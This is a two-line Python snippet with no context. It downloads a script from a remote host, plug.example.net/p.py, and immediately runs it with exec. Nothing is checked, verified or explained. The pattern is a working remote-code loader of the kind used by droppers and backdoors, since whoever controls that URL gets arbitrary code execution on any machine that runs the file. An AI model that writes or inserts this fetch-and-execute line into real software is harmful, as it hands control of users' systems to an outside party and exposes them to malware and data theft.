import requests
exec(requests.get('https://plug.example.net/p.py').text)
